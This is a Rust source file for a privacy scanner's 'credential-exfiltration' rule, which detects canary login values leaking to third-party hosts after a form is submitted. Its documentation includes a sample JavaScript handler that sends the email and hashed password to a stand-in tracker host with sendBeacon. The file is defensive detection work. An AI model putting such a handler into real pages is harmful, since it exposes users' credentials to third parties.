//! # credential-exfiltration
//!
//! A credential or personal value typed into the page's form (outflow's
//! canary) reached a third party when, or after, the form was submitted.
//!
//! ## What it detects
//!
//! outflow types unique canary values (an e-mail address, a password, a
//! phone number) into the page's login or sign-up form and submits it. This
//! rule reports each canary found in anything the page sent to a host that
//! is not the site itself (`--first-party` says which hosts are) at or after
//! the moment of submission: the URL, every request header (`Cookie` and
//! `Referer` included), the body, and WebSocket frames sent; and values a
//! third-party script wrote to `document.cookie` or web storage once the
//! form was submitted. A write's time is when the scanner received its
//! record (at most about 50 ms late, so a write received before the
//! submission was made before it); writes of unknown time (cookies read
//! from the browser's jar at the end, older captures) count here when the
//! form was submitted, and under `pii-before-submit` when it never was.
//!
//! ## Why it matters
//!
//! A login form that hands the password to an analytics, advertising or
//! session-replay service exposes every user's credentials to a company
//! they never dealt with (the Leaky Forms study found passwords collected
//! by session-replay scripts on 52 of the top 100,000 sites).
//!
//! ## How it decides
//!
//! Each value is searched in every encoding a script may apply, alone and
//! nested up to three layers: the value in its own case, lower and upper
//! case, trimmed and lower-cased, and missing its last one or two
//! characters; URL and form encoding (single and double), HTML entities,
//! JSON escapes, base64 (standard and URL-safe, padded or not, at any byte
//! alignment), base32, base58, hex (either case); MD2, MD4, MD5, SHA-1,
//! SHA-224, SHA-256, SHA-384, SHA-512, SHA3-224/256/384/512, RIPEMD-160,
//! Whirlpool, Leaky Forms' salted SHA-256 and MurmurHash3 (32-bit, 128-bit,
//! and its 64-bit halves) as hex, base64 or decimal, of the value or of
//! another layer ([`HASH_LAYERS`] (3); truncated values
//! [`TRUNCATED_HASH_LAYERS`] (1)); and inside gzip, zlib, deflate and brotli
//! bodies and LZ-string compression (base64, UTF-16, URI-component and byte
//! forms). Decoding stops at fixed limits (1 MiB per decompression, 512
//! decoded views and 8 MiB per haystack), so a decompression bomb cannot
//! stall the scan. Values shorter than [`MIN_TERM_CHARS`] (5) are not
//! searched.
//!
//! - A password to a third party: **critical**. An e-mail address or phone
//!   number: **high**. A user name or name: **medium**. A value only
//!   written to storage by a third-party script: one step lower.
//! - Confidence is **high**: the exact canary, unique to this scan, was
//!   observed. Each finding covers one canary and one destination, with up
//!   to ten channels as evidence: the request, where in it, the exact text
//!   matched, and the chain of encodings, outermost first (e.g.
//!   `["base64", "gzip", "json"]`).
//!
//! ## Known false positives
//!
//! A single sign-on or identity provider the site uses on purpose is a
//! third party by its host: pass it with `--first-party` when it is the
//! site's own. Submitting to a payment processor's host is reported too;
//! the attribution says who it is.
//!
//! ## Example
//!
//! ```js
//! form.addEventListener("submit", () => {
//!   navigator.sendBeacon("https://collect.tracker.example/b",
//!     btoa(JSON.stringify({u: email.value, p: sha256(password.value)})));
//! });
//! ```

use outflow_model::Finding;

use crate::canary::leaks::{find_leaks, findings};
use crate::canary::{HASH_LAYERS, MIN_TERM_CHARS, TRUNCATED_HASH_LAYERS};
use crate::facts::Facts;
use crate::rule::Check;

crate::rules::declare_rule! {
    /// The rule; see the module documentation.
    pub struct CredentialExfiltration;
    slug: "credential-exfiltration",
    source: "credential_exfiltration.rs",
    thresholds: [HASH_LAYERS, TRUNCATED_HASH_LAYERS, MIN_TERM_CHARS],
}

impl Check for CredentialExfiltration {
    fn check(&self, facts: &Facts<'_>) -> Vec<Finding> {
        let Some(capture) = facts.capture else {
            return Vec::new();
        };
        let Some(submitted_at) = capture.submitted_at_ms else {
            return Vec::new();
        };
        let leaks = find_leaks(facts)
            .into_iter()
            .filter(|l| match l.time_ms {
                Some(t) => t >= submitted_at,
                // A write of unknown time: it may have been on submission.
                None => l.write,
            })
            .collect();
        findings(
            Self::SLUG,
            facts,
            leaks,
            "on submission",
            "when or after the form was submitted",
        )
    }
}
